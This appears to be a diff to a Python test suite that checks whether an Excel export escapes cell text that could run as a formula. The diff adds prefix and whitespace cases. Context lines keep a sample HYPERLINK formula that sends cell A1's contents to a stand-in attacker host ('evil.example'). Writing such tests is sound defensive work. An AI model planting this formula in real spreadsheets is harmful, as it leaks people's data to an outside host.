@@ -35,6 +35,7 @@ from unccd_desktop.excel.donor_report import export_donor_report
 from unccd_desktop.excel.importing import preview_import
 from unccd_desktop.excel.list_export import write_list
 from unccd_desktop.excel.partner_workbook import export_partner_workbook
+from unccd_desktop.excel.writing import needs_guard
 from unccd_desktop.services import Actor, Services, open_services
 
 PREFIXES = {
@@ -48,6 +49,7 @@ PREFIXES = {
     "full-width-plus": "＋",
     "full-width-minus": "－",
     "full-width-at": "＠",
+    "space-then-equals": " =",
 }
 FORMULA = 'HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 PARTNER = "GEO"  # responsible for deliverables, has focal points
@@ -214,3 +216,24 @@ def test_imported_values_are_not_escaped(demo_services, exported, tmp_path, text
     assert [m.message for m in negative.messages] == [
         "Progress (%): -5 is not a percentage from 0 to 100."
     ]
+
+
+@pytest.mark.parametrize(
+    ("text", "escaped"),
+    [
+        ("=1+1", True),
+        ("  =1+1", True),  # spaces first: still a formula once edited in some programs
+        ("\u3000＝1+1", True),
+        ("\n=1", True),
+        ("-5", True),  # a number typed as text stays text
+        ("#N/A", True),
+        ("   ", False),  # whitespace only
+        ("Plan B - revised =", False),
+        ("5-", False),
+        ("#1 priority", False),
+        ("Ω", False),
+        ("", False),
+    ],
+)
+def test_which_text_is_escaped(text, escaped):
+    assert needs_guard(text) is escaped
